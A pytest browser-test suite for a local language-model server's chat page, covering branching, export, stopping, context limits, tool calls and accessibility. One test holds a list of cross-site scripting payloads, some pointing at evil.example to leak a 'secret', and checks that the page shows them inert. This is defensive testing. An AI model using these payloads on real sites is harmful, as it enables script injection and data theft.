"""The chat in a browser: answers, branches, what is kept, and what models write."""

import json
import re
import time
from pathlib import Path
from typing import Any

import pytest

from mlxr.runtime.engine.engine_thread import EngineThread
from mlxr.server.openai.chat_request import ChatRequest, job_of
from mlxr.server.pool.model_pool import ModelPool
from mlxr.server.settings import ServerSettings
from mlxr_tests.browser_tab import Tab, new_tab
from mlxr_tests.running_server import RunningServer, running_server, tiny_source

PROMPT = "Once upon a time"


def ask(page: Any, text: str) -> None:
    page.get_by_label("Message", exact=True).fill(text)
    page.keyboard.press("Enter")


def answered(page: Any, number: int = 1) -> Any:
    """The last message, when there are so many answers and the last one is complete."""
    answers = page.locator(".message.assistant")
    answers.nth(number - 1).wait_for()
    page.locator(".message.assistant:not(.growing) .foot").nth(number - 1).wait_for()
    return answers.nth(number - 1)


def greedy(page: Any, tokens: int = 12) -> None:
    page.get_by_label("temperature").fill("0")
    page.get_by_label("max tokens").fill(str(tokens))
    page.get_by_label("max tokens").blur()


def saved(page: Any) -> None:
    """Returns when what was to be written to the browser's database is there: transactions wait for each other."""
    page.evaluate(
        """() => new Promise((resolve, reject) => {
            const opening = indexedDB.open("mlxr", 1);
            opening.onerror = reject;
            opening.onsuccess = () => {
                const reading = opening.result.transaction("conversations").objectStore("conversations").count();
                reading.onsuccess = () => { opening.result.close(); resolve(); };
            };
        })"""
    )


def stream(*deltas: dict[str, Any], reason: str = "stop") -> dict[str, Any]:
    """A streamed answer as /v1/chat/completions sends it."""
    chunks: list[Any] = [{"choices": [{"index": 0, "delta": delta, "finish_reason": None}]} for delta in deltas]
    chunks.append({"choices": [{"index": 0, "delta": {}, "finish_reason": reason}]})
    chunks.append({"choices": [], "usage": {"prompt_tokens": 9, "completion_tokens": 4, "total_tokens": 13}})
    body = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n"
    return {"status": 200, "content_type": "text/event-stream", "body": body}


@pytest.mark.long
def test_a_model_without_a_template_continues_texts(tab: Tab, tmp_path: Path) -> None:
    page = tab.open()
    page.get_by_label("Model", exact=True).select_option("plain")
    greedy(page)
    ask(page, PROMPT)
    first = answered(page).locator(".content").inner_text()
    body = {"model": "plain", "prompt": PROMPT, "temperature": 0, "max_tokens": 12}
    told = tab.server.http.post("/v1/completions", json=body).json()["choices"][0]["text"]
    assert first.strip() == told.strip()

    page.get_by_role("button", name="Continue", exact=True).click()
    page.wait_for_function(
        "before => document.querySelector('.message.assistant .content').innerText.length > before", arg=len(first)
    )
    answered(page)
    page.get_by_role("button", name="Regenerate").click()
    page.get_by_text("2 / 2").wait_for()
    assert answered(page).locator(".content").inner_text().strip() == told.strip(), "greedy"
    page.get_by_role("button", name="Previous branch").click()
    assert len(answered(page).locator(".content").inner_text()) > len(first)

    page.locator(".message.user").get_by_role("button", name="Edit").click()
    page.get_by_label("The message's text").fill("A cat")
    page.keyboard.press("Control+Enter")
    assert page.locator(".message.user .content").inner_text() == "A cat"
    answered(page)
    page.locator(".message.user").get_by_role("button", name="Previous branch").click()
    page.get_by_text("1 / 2").first.wait_for()
    assert page.locator(".message.user .content").inner_text() == PROMPT

    saved(page)
    page.reload()
    page.locator(".message.user", has_text=PROMPT).wait_for()
    with page.expect_download() as download:
        page.get_by_role("button", name="Export all").click()
    file = tmp_path / "conversations.json"
    download.value.save_as(file)
    (exported,) = json.loads(file.read_text())["conversations"]
    assert len(exported["messages"]) == 5 and exported["settings"] == {"temperature": 0, "max_tokens": 12}
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name=f"Delete {PROMPT}").click()
    page.locator(".welcome").wait_for()
    page.get_by_label("File to import").set_input_files(file)
    page.locator(".message.user", has_text=PROMPT).wait_for()
    assert page.locator(".branches").count() == 2
    page.get_by_label("File to import").set_input_files({"name": "x.json", "mimeType": "", "buffer": b"{}"})
    page.get_by_text("x.json: this file has no conversations").wait_for()


def slow_engine(tab: Tab, monkeypatch: pytest.MonkeyPatch) -> EngineThread:
    """The engine of model `plain`, loaded, with steps that take long enough to do something meanwhile."""
    tab.server.http.post("/inspector/load", params={"model": "plain"}).raise_for_status()
    engine: EngineThread = tab.server.do(lambda: tab.server.pool.find("plain").loaded).engine
    core, fast = engine.model.core, engine.model.core.step
    monkeypatch.setattr(core, "step", lambda: (time.sleep(0.03), fast())[1])
    return engine


@pytest.mark.long
def test_escape_stops(tab: Tab, monkeypatch: pytest.MonkeyPatch) -> None:
    pool, engine, page = tab.server.pool, slow_engine(tab, monkeypatch), tab.open()
    before = engine.stats().generated_tokens
    page.get_by_label("Model", exact=True).select_option("plain")
    greedy(page, 480)
    ask(page, PROMPT)
    page.locator(".message.assistant .content", has_text=re.compile("....")).wait_for()
    assert page.get_by_role("button", name="Stop", exact=True).is_visible()
    ask(page, "next")
    assert page.get_by_label("Message", exact=True).input_value() == "next", "it waits until the answer is complete"
    page.wait_for_timeout(100)
    assert page.get_by_role("button", name="Stop", exact=True).is_visible()
    page.evaluate("document.activeElement.blur()")
    page.keyboard.press("Escape")
    note = page.locator(".foot small", has_text="stopped")
    note.wait_for()
    counted = re.match(r"(\d+) tokens", note.inner_text())
    assert counted is not None
    while tab.server.do(lambda: pool.find("plain").users):
        time.sleep(0.01)
    assert 1 < int(counted[1]) <= engine.stats().generated_tokens - before < 480


@pytest.mark.long
def test_a_reload_keeps_what_had_come(tab: Tab, monkeypatch: pytest.MonkeyPatch) -> None:
    slow_engine(tab, monkeypatch)
    page = tab.open()
    page.get_by_label("Model", exact=True).select_option("plain")
    greedy(page, 480)
    ask(page, PROMPT)
    page.wait_for_timeout(1500)  # it is saved each second
    page.reload()
    note = answered(page).locator(".foot small")
    assert re.match(r"\d+ tokens .* stopped", note.inner_text())
    assert page.get_by_role("button", name="Continue", exact=True).is_visible()


@pytest.mark.long
def test_a_chat_goes_on(tab: Tab) -> None:
    page = tab.open()
    page.get_by_label("Model", exact=True).select_option("tiny")
    greedy(page, 6)
    ask(page, "Tell me\na story.")
    assert page.locator(".message.user .content").inner_text() == "Tell me\na story.", "lines stay lines"
    first = answered(page).locator(".content").inner_text()
    page.get_by_role("button", name="Continue", exact=True).click()
    page.wait_for_function(
        "before => document.querySelector('.message.assistant .content').innerText.length > before", arg=len(first)
    )
    answered(page)
    assert page.locator(".message .error:visible").count() == 0
    assert page.locator(".foot small", has_text="12 tokens").count() == 1, "of both parts"

    page.get_by_label("max tokens").fill("")
    page.get_by_role("button", name="Continue", exact=True).click()
    page.locator(".foot small", has_text="the context is full").wait_for()
    assert page.locator(".context").inner_text() == "512 of 512 tokens"
    assert not page.get_by_role("button", name="Continue", exact=True).is_visible()
    page.get_by_role("button", name="New conversation").click()
    page.get_by_label("max tokens").fill("")
    ask(page, "Another.")
    answered(page)
    page.locator(".foot small", has_text=f"{512 // 4} tokens").wait_for()  # so that a short context has room for more


@pytest.mark.long
def test_loading_is_shown_and_can_be_stopped(tab: Tab) -> None:
    models = tab.server.http.get("/inspector/models").json()
    models[0] |= {"state": "loading", "progress": "weights 25 %", "can_chat": None}
    page = tab.page
    page.route("**/inspector/load?*", lambda route: None)
    page.route("**/inspector/models", lambda route: route.fulfill(json=models))
    tab.open()
    ask(page, "Hello")
    stages = page.locator(".message.growing .stages li")
    stages.filter(has_text="loading weights 25 %").wait_for()
    assert page.locator("#model-state").inner_text() == "weights 25 %"
    models[0]["progress"] = "warming up"
    stages.nth(1).wait_for()
    first, second = (stages.nth(at).inner_text() for at in (0, 1))
    assert re.fullmatch(r"loading weights\s+\d+\.\d s", first) and re.fullmatch(r"warming up\s+\d+\.\d s", second)
    page.keyboard.press("Escape")
    page.locator(".foot small", has_text="stopped").wait_for()


@pytest.mark.long
def test_a_chat_with_reasoning_and_tools(tab: Tab) -> None:
    page, asked = tab.open(), list[dict[str, Any]]()
    answers = [
        stream(
            {"role": "assistant", "content": ""},
            {"reasoning_content": "I should "},
            {"reasoning_content": "look."},
            {
                "tool_calls": [
                    {"index": 0, "id": "c1", "type": "function", "function": {"name": "weather", "arguments": ""}}
                ]
            },
            {"tool_calls": [{"index": 0, "function": {"arguments": '{"city": '}}]},
            {"tool_calls": [{"index": 0, "function": {"arguments": '"Bern"}'}}]},
            reason="tool_calls",
        ),
        stream({"content": "# Rain\n\nIt **rains**.\n\n```python\nprint(1)  # one\n```\n"}),
    ]

    def fulfil(route: Any) -> None:
        asked.append(route.request.post_data_json)
        route.fulfill(**answers[len(asked) - 1])

    page.route("**/v1/chat/completions", fulfil)
    page.get_by_label("Model", exact=True).select_option("tiny")
    page.get_by_label("System prompt").fill("Be brief.")
    for fold in ("Tools", "More sampling"):
        page.locator("#settings summary", has_text=fold).click()
    page.get_by_label("Functions (JSON)").fill('[{"name": "weather", "parameters": {"type": "object"}}]')
    page.get_by_label("top k").fill("5")
    ask(page, "How is the weather?")
    first = answered(page)
    reasoning = first.locator("details").first
    assert reasoning.locator("summary").inner_text() == "Reasoning, 3 words"
    assert not reasoning.evaluate("node => node.open"), "it is folded"
    first.get_by_text('"city": "Bern"').wait_for()
    page.get_by_label("Result of weather").fill("rain")
    page.get_by_role("button", name="Send the results").click()
    second = answered(page, 2)
    assert second.locator("strong").inner_text() == "rains"
    assert second.get_by_role("heading", level=4).inner_text() == "Rain", "below the message's own heading"
    assert second.locator(".hljs-comment").inner_text() == "# one"
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    second.get_by_role("button", name="Copy code").click()
    assert page.evaluate("navigator.clipboard.readText()") == "print(1)  # one"
    body = asked[1]
    assert asked[0]["tools"] == [
        {"type": "function", "function": {"name": "weather", "parameters": {"type": "object"}}}
    ]
    assert body["top_k"] == 5 and body["model"] == "tiny"
    call = {"id": "c1", "type": "function", "function": {"name": "weather", "arguments": '{"city": "Bern"}'}}
    assert body["messages"] == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "How is the weather?"},
        {"role": "assistant", "content": "", "reasoning_content": "I should look.", "tool_calls": [call]},
        {"role": "tool", "content": "rain", "tool_call_id": "c1"},
    ]
    assert job_of(ChatRequest.model_validate_json(json.dumps(body))).tool_names == ("weather",), "the server takes it"


HOSTILE = [
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg onload=hit()><style>*{display:none}</style></svg>",
    "[a](javascript:hit())",
    "[b](JaVa\tScript:hit()) [c](data:text/html,<script>hit()</script>)",
    "![d](https://evil.example/?secret) ![e](x 'y\" onerror=\"hit()')",
    '```"><img src=x onerror=hit()>\n</code></pre><script>hit()</script>\n```',
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe><form action="//evil.example"><button>x</button></form>',
    "<a href='https://evil.example' style='position:fixed;inset:0' id='composer' name='body'>x</a>",
    '| a |\n|---|\n| <img src=x onerror=hit()> <b onmouseover="hit()">b</b> |',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
]


def test_nothing_that_a_model_writes_runs(tab: Tab) -> None:
    page, elsewhere = tab.open(), list[str]()
    page.evaluate("() => { window.hits = 0; window.hit = () => { window.hits += 1; }; }")
    page.on(
        "request", lambda request: None if request.url.startswith(tab.server.url) else elsewhere.append(request.url)
    )
    text = "\n\n".join(HOSTILE)
    calls = [{"index": 0, "id": "c", "function": {"name": HOSTILE[1], "arguments": HOSTILE[0]}}]
    page.route(
        "**/v1/chat/completions",
        lambda route: route.fulfill(**stream({"reasoning_content": text}, {"content": text}, {"tool_calls": calls})),
    )
    page.get_by_label("Model", exact=True).select_option("tiny")
    ask(page, text)
    answer = answered(page)
    for details in answer.locator("summary").all():
        details.click()
    page.wait_for_timeout(200)
    assert page.evaluate("window.hits") == 0 and not elsewhere
    tags = answer.evaluate("node => [...new Set([...node.querySelectorAll('*')].map(e => e.localName))]")
    assert not {"script", "img", "iframe", "svg", "style", "form", "math"} & set(tags)
    assert answer.evaluate(
        """node => [...node.querySelectorAll('*')].flatMap(e => [...e.attributes])
            .every(attribute => !/^(on|style|id)/.test(attribute.name))"""
    )
    links = answer.evaluate("node => [...node.querySelectorAll('a')].map(a => [a.getAttribute('href'), a.rel])")
    assert {href for href, _ in links} <= {None, "https://evil.example/?secret"} and all(
        "noopener" in rel for _, rel in links
    )
    assert "<script>hit()</script>" in answer.locator(".content").inner_text(), "it is shown as it was written"
    # What the policy adds: even a mistake of the page's own could not run it.
    for mistake in (
        "document.body.innerHTML = '<img src=x onerror=hit()>'",
        "document.body.setAttribute('onclick', 'hit()')",
        "document.createElement('script').text = 'hit()'",
        "setTimeout('hit()')",
    ):
        told = page.evaluate(
            f"() => {{ try {{ {mistake}; return 'ran'; }} catch (error) {{ return String(error); }} }}"
        )
        assert "Trusted" in told, mistake
    assert page.evaluate("window.hits") == 0
    tab.problems.clear()  # the console tells of them


@pytest.mark.long
def test_a_key_is_asked_for(browser: Any) -> None:
    with (
        running_server(lambda: ModelPool([tiny_source()]), ServerSettings(api_keys=("right",))) as server,
        new_tab(browser, server) as tab,
    ):
        page = tab.open()
        dialog = page.get_by_role("dialog")
        dialog.get_by_label("Key", exact=True).fill("wrong")
        page.keyboard.press("Enter")
        dialog.get_by_text("This key is not known.").wait_for()
        dialog.get_by_label("Key", exact=True).fill("right")
        page.keyboard.press("Enter")
        dialog.wait_for(state="hidden")
        page.get_by_label("Model", exact=True).locator("option").wait_for(state="attached")
        page.reload()
        page.locator(".welcome").wait_for()
        assert not dialog.is_visible(), "the tab knows it"
        tab.problems.clear()  # the console tells of the answers 401


@pytest.mark.long
def test_an_error_is_told_where_the_answer_would_be(tab: Tab) -> None:
    page = tab.open()
    page.get_by_label("Model", exact=True).select_option("plain")
    page.get_by_label("max tokens").fill("4")
    ask(page, "word " * 4000)
    page.locator(".message .error", has_text="tokens").wait_for()
    foot = page.locator(".message.assistant .foot").first
    assert foot.get_by_role("button").all_inner_texts() == ["Retry"], "there is nothing to edit, and no turn to drop"
    ask(page, "x")
    page.locator(".message .error").nth(1).wait_for()
    page.get_by_role("button", name="Go on without the oldest turns").click()
    page.locator(".message.unsent").first.wait_for()
    answered(page, 2).locator(".content", has_text=re.compile(".")).wait_for()
    assert page.locator(".message.unsent").count() == 2

    page.route("**/v1/completions", lambda route: route.abort(), times=1)
    ask(page, "y")
    page.get_by_role("button", name="Retry").nth(1).click()
    answered(page, 3).locator(".content", has_text=re.compile(".")).wait_for()
    assert page.locator(".branches").count() == 0, "in its place"
    tab.problems.clear()  # the console tells of the answers 400


@pytest.mark.long
def test_the_oldest_turns_are_dropped_when_the_context_is_full(tab: Tab) -> None:
    page, bodies = tab.open(), list[dict[str, Any]]()
    page.on("request", lambda told: bodies.append(told.post_data_json) if told.url.endswith("completions") else None)
    page.get_by_label("Model", exact=True).select_option("tiny")
    page.get_by_label("System prompt").fill("Be brief.")
    greedy(page, 20)
    turns = 0
    while not page.locator(".message .error:visible").count():
        turns += 1
        ask(page, f"Turn {turns}: a cat")
        answered(page, turns)
    assert turns > 3
    full = bodies[-1]["messages"]
    page.get_by_role("button", name="Go on without the oldest turns").click()
    page.locator(".message.unsent").first.wait_for()
    answered(page, turns)
    assert page.locator(".message .error:visible").count() == 0
    rest = bodies[-1]["messages"]
    dropped = len(full) - len(rest)
    assert dropped > 0 and dropped % 2 == 0 and rest == [full[0], *full[1 + dropped :]]

    def needed(messages: list[dict[str, Any]]) -> int:
        return tab.server.http.post("/tokenize", json={"model": "tiny", "messages": messages}).json()["count"] + 20

    context = tab.server.http.get("/inspector/models").json()[0]["context"]
    assert needed(rest) <= context < needed([full[0], *full[dropped - 1 :]]), "no more than must go"
    unsent = page.locator(".message.unsent")
    assert unsent.count() == dropped and unsent.first.get_by_text("no longer sent").is_visible()
    page.get_by_role("button", name="Regenerate").last.click()
    page.get_by_text("2 / 2").wait_for()
    assert bodies[-1]["messages"] == rest
    tab.problems.clear()  # the console tells of the answer 400


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
@pytest.mark.long
def test_layout_and_names(browser: Any, server: RunningServer, width: int, scheme: str) -> None:
    with new_tab(browser, server, viewport={"width": width, "height": 800}, color_scheme=scheme) as tab:
        page = tab.open()
        page.locator(".welcome").wait_for()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        landmarks = {"banner", "main", "navigation"} | ({"complementary"} if width > 1000 else set())
        assert all(page.get_by_role(role).count() for role in landmarks)
        assert page.get_by_role("heading", level=1).count() == 1
        unnamed = page.locator("button, input, select, textarea, a").evaluate_all(
            """all => all.filter(e => !(e.getAttribute('aria-label') || e.innerText || e.labels?.length))
                .map(e => e.outerHTML)"""
        )
        assert not unnamed
        dark = page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(21, 23, 28)"
        assert dark == (scheme == "dark")
        page.get_by_role("button", name="Theme: system").click()
        page.get_by_role("button", name="Theme: light").wait_for()
        assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
        if width < 500:
            page.get_by_role("button", name="Settings").click()
            assert page.get_by_label("temperature").is_visible()
            page.keyboard.press("Escape")
            assert not page.get_by_label("temperature").is_visible()
            assert page.evaluate("document.activeElement.textContent") == "Settings"
            for close in (  # phones have no Escape
                page.get_by_role("button", name="Close settings").click,
                lambda: page.mouse.click(10, 400),
            ):
                page.get_by_role("button", name="Settings", exact=True).click()
                page.get_by_label("temperature").wait_for()
                close()
                page.get_by_label("temperature").wait_for(state="hidden")


@pytest.mark.long
def test_the_focus_stays_where_a_message_was(tab: Tab) -> None:
    page = tab.open()
    page.route("**/v1/chat/completions", lambda route: route.fulfill(**stream({"content": "Yes."})))
    page.get_by_label("Model", exact=True).select_option("tiny")
    ask(page, "One?")
    answered(page)
    focused = "(e => e.getAttribute('aria-label') || e.textContent)(document.activeElement)"

    def pressed(name: str) -> str:
        page.get_by_role("button", name=name).last.focus()
        page.keyboard.press("Enter")
        page.wait_for_function("() => !document.querySelector('.growing')")
        return str(page.evaluate(focused))

    assert pressed("Regenerate") == "Message"
    assert pressed("Previous branch") == "Next branch"
    assert pressed("Edit") == "The message's text"
    page.keyboard.press("Escape")
    assert page.evaluate(focused) == "Edit"
    page.keyboard.press("Enter")
    page.keyboard.type(" No.")
    page.keyboard.press("Control+Enter")
    page.get_by_text("3 / 3").wait_for()
    assert page.evaluate(focused) == "Edit"


@pytest.mark.long
def test_by_keyboard(tab: Tab) -> None:
    page = tab.open()
    page.locator(".welcome").wait_for()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
    names = []
    for _ in range(17):
        page.keyboard.press("Tab")
        names.append(
            page.evaluate("(e => e.getAttribute('aria-label') || e.id || e.textContent)(document.activeElement)")
        )
        assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none", names
    assert names[:5] == ["Chat", "Inspector", "model", "model-about", "Theme: system"] and "Message" in names
    page.get_by_label("temperature").fill("0.5")
    page.keyboard.press("Tab")
    page.keyboard.type("9")
    assert page.get_by_label("max tokens").input_value() == "9", "a setting that changes leaves the others alone"
